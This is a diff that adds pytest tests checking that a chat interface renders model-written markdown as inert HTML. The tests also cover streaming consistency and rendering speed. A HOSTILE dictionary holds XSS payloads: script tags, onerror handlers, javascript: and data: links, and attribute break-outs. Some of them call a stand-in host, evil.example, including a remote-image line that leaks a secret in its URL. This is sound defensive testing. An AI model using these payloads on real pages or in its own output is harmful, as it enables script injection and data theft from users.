@@ -1,0 +1,140 @@
+"""What a model writes can be read, and can do nothing else."""
+
+import random
+import re
+import time
+
+import pytest
+
+from tests.ui.conftest import Reader, until
+from tests.ui.stand_in import StandIn
+from tests.ui.test_chat import ask
+from ui.blocks import MAX_TAIL_CHARS, GrowingMarkdown
+from ui.markdown import MAX_MARKDOWN_CHARS, render
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "inline script": "hello <script src=//evil.example/x.js></script>",
+    "handler": '<img src=x onerror="alert(1)">',
+    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
+    "style": "<style>body{display:none}</style>",
+    "frame": '<iframe src="https://evil.example"></iframe>',
+    "form": '<form action="https://evil.example"><input name=key></form>',
+    "javascript link": "[click](javascript:alert(1))",
+    "javascript link, disguised": "[x](JaVaScRiPt&#58;alert(1)) [x](java\tscript:alert(1)) <javascript:alert(1)>",
+    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "file link": "[click](file:///etc/passwd) [click](vbscript:msgbox)",
+    "own origin": "[click](/c/conv_1) [click](//evil.example)",
+    "remote image": "![steal](https://evil.example/log?q=secret)",
+    "image in link": "[![steal](https://evil.example/a.png)](https://example.org)",
+    "attribute break-out": '[a](https://example.org/"onmouseover="alert(1)) ![x"onerror=alert(1)](https://e.org/"x)',
+    "fence break-out": '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
+    "act": '<button data-act="stop">x</button>',
+}
+ALLOWED_TAGS = {
+    *("p", "a", "em", "strong", "s", "code", "pre", "div", "span", "button", "ul", "ol", "li", "blockquote", "hr"),
+    *("br", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
+}
+ALLOWED_ATTRIBUTES = {"class", "href", "title", "type", "data-act", "style", "start"}
+TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)((?:\s+[^\s=>]+(?:=\"[^\"]*\")?)*)\s*/?>")
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_markdown_becomes_inert_html(text: str) -> None:
+    html = render(text)
+    assert_inert(html)
+    settled, tail = GrowingMarkdown().feed(text)
+    assert_inert(settled + tail)
+
+
+def assert_inert(html: str) -> None:
+    """Only known tags with known attributes, only links that lead out, and nothing that loads by itself."""
+    assert html.count("<") == len(TAG.findall(html)), f"a stray < in {html}"
+    for _, name, attributes in TAG.findall(html):
+        assert name in ALLOWED_TAGS, name
+        for attribute, value in re.findall(r"([^\s=]+)=\"([^\"]*)\"", attributes):
+            assert attribute in ALLOWED_ATTRIBUTES, attribute
+            if attribute == "href":
+                assert value.startswith(("https://", "http://", "mailto:")), value
+            if attribute == "style":
+                assert re.fullmatch(r"text-align:(left|right|center)", value), value
+            if attribute == "data-act":
+                assert value == "copy-code"
+
+
+async def test_hostile_output_is_inert_on_the_page(reader: Reader, api: StandIn) -> None:
+    api.behaviour.answer = "\n\n".join(HOSTILE.values()) + "\n\nThe end."
+    await reader.open("/")
+    await ask(reader, "<b>Do your worst</b>")
+    await until(lambda: "The end." in reader.answer())
+    assert_inert(reader.answer())
+    assert reader.texts("bubble") == ["<b>Do your worst</b>"]  # as text: it is not in an innerHTML
+    assert "An image is named: steal" not in reader.answer() and "Image: steal" in reader.answer()
+
+
+def test_markdown_is_rendered_with_tables_and_highlighted_code() -> None:
+    html = render(
+        "# T\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint('x')\n```\n\n~~no~~ [x](https://example.org)"
+    )
+    assert '<div class="table"><table>' in html and 'style="text-align:right"' in html
+    assert 'class="code-copy"' in html and '<span class="nb">print</span>' in html and "<span>python</span>" in html
+    assert "<s>no</s>" in html and '<a href="https://example.org">x</a>' in html
+
+
+@pytest.mark.parametrize("language", ["", "no-such-language", "python3.11", "c++"])
+def test_code_of_any_language_keeps_its_text(language: str) -> None:
+    assert "a &lt; b" in re.sub(r"</?span[^>]*>", "", render(f"```{language}\na < b\n```"))
+
+
+TEXT = """Intro with **bold** text.
+
+# Head
+
+1. one
+
+2. two
+
+   more of two
+
+- a
+- b
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+```python
+def f():
+
+    return 1
+```
+
+> quote
+lazy
+
+last *line*"""
+
+
+@pytest.mark.parametrize("seed", range(25))
+def test_a_growing_text_ends_as_the_same_html_as_the_whole(seed: int) -> None:
+    rng, growing, settled, end = random.Random(seed), GrowingMarkdown(), "", 0
+    tail = ""
+    while end < len(TEXT):
+        end += rng.randint(1, 12)
+        newly, tail = growing.feed(TEXT[:end])
+        settled += newly
+    assert squeezed(settled + tail) == squeezed(render(TEXT))
+    assert squeezed(settled)  # most of it was rendered once only
+
+
+def squeezed(html: str) -> str:
+    return re.sub(r"\s+", " ", html).strip()
+
+
+@pytest.mark.parametrize("piece", ["[", "![", "*a ", "[a](", "`a", "> ", "- ", "|a", "<a", "&a", "\n\n[", "#"])
+def test_no_text_is_slow_to_render_past_the_bounds(piece: str) -> None:
+    began = time.process_time()
+    text = piece * (MAX_TAIL_CHARS // len(piece))
+    GrowingMarkdown().feed(text)
+    render(text * (1 + MAX_MARKDOWN_CHARS // len(text)))  # past the bound: plain text
+    assert time.process_time() - began < 3.0
